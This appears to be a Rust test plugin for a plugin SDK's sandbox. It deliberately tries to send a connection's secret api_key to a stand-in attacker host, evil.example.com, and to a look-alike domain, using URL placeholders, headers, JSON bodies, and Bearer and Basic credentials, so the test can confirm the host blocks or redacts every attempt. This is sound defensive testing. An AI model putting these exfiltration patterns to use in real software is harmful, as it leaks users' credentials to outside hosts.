//! Hostile test plugin: `send` tries every way it has to get its connection's secret
//! `api_key` to a host that is not on its allow-list: as a placeholder in the URL, a header
//! and the body, as Bearer and Basic credentials, and through a look-alike of its allowed
//! host. Whatever it learns it writes into its log and its error detail, so a leak would show
//! up where the test looks. The host must deny every request before anything leaves.
//!
//! A call may make 4 requests (denied ones count), so the message text picks where in the
//! list of attempts to start: `0` for the placeholders, `4` for credentials and the look-alike.
//!
//! With the text `echo`, it instead sends the secret every way it can to the connection's
//! `echo_url`, an allowed host that quotes each request back (a header, the JSON body, Bearer
//! and Basic credentials; placeholders are never filled in URLs), and reports what it read. The
//! host must let these out (the host is allowed) and redact the secret from the answers.
use switchboard_plugin_sdk::prelude::*;

#[path = "../../common.rs"]
mod common;

pub struct Exfil;

const SECRET: &str = "{{secret:api_key}}";

impl Plugin for Exfil {
    fn describe() -> Manifest {
        let mut manifest = common::manifest("test-exfil", &["https://api.allowed.example"]);
        manifest.config_keys.extend([
            ConfigKey::new(
                "echo_url",
                false,
                false,
                "an allowed host that quotes requests back",
            ),
            ConfigKey::new("echo_user", false, false, "the Basic user name sent to it"),
        ]);
        manifest
    }
    fn validate(_: &Message) -> Vec<Violation> {
        vec![]
    }
    fn quote(_: &Message) -> Result<Quote, Vec<Violation>> {
        Ok(common::quote())
    }
    fn send(msg: Message, _: Connection) -> Result<Sent, SendError> {
        if msg.content.text.as_deref() == Some("echo") {
            return Err(echo());
        }
        let start: usize = msg
            .content
            .text
            .as_deref()
            .unwrap_or("0")
            .parse()
            .unwrap_or(0);
        let evil = "http://evil.example.com";
        let attempts = [
            Request::get(format!("{evil}/steal?key={SECRET}")),
            Request::get(format!("http://{SECRET}@evil.example.com/steal")),
            Request::get(format!("{evil}/steal")).header("x-key", SECRET),
            Request::post(format!("{evil}/steal")).json_body(format!("{{\"key\":\"{SECRET}\"}}")),
            Request::get(format!("{evil}/steal")).bearer("api_key"),
            Request::get(format!("{evil}/steal")).basic_auth("api_key", "api_key"),
            Request::post("https://api.allowed.example.evil.com/steal").json_body(SECRET),
        ];
        let mut outcomes = Vec::new();
        for req in attempts.into_iter().skip(start) {
            outcomes.push(match http::send(req) {
                Ok(resp) => format!(
                    "LEAKED status {}: {}",
                    resp.status,
                    String::from_utf8_lossy(&resp.body)
                ),
                Err(e) => format!("{e:?}"),
            });
        }
        // Config is the non-secret half: the secret must not be readable there either.
        if let Some(v) = config::get("api_key") {
            outcomes.push(format!("LEAKED config api_key={v}"));
        }
        let report = outcomes.join(" | ");
        log::warn(&report);
        Err(SendError::permanent(
            FailureReason::PermissionDenied,
            None,
            report,
        ))
    }
    fn handle_webhook(_: WebhookRequest, _: Connection) -> Result<WebhookOutcome, WebhookError> {
        Err(WebhookError::BadRequest("no webhooks".into()))
    }
}

/// Every way of sending the secret to an allowed host that quotes the request back.
fn echo() -> SendError {
    let Some(url) = config::get("echo_url") else {
        return SendError::permanent(FailureReason::InvalidFormat, None, "no echo_url");
    };
    let attempts = [
        Request::get(url.clone()).header("x-key", SECRET),
        Request::post(url.clone()).json_body(format!("{{\"key\":\"{SECRET}\"}}")),
        Request::get(url.clone()).bearer("api_key"),
        Request::get(url.clone()).basic_auth("echo_user", "api_key"),
    ];
    let report: Vec<String> = attempts
        .into_iter()
        .map(|req| match http::send(req) {
            Ok(resp) => format!(
                "ECHO status {}: {}",
                resp.status,
                String::from_utf8_lossy(&resp.body)
            ),
            Err(e) => format!("{e:?}"),
        })
        .collect();
    let report = report.join(" | ");
    log::warn(&report);
    SendError::permanent(FailureReason::PermissionDenied, None, report)
}

switchboard_plugin_sdk::export_plugin!(Exfil);
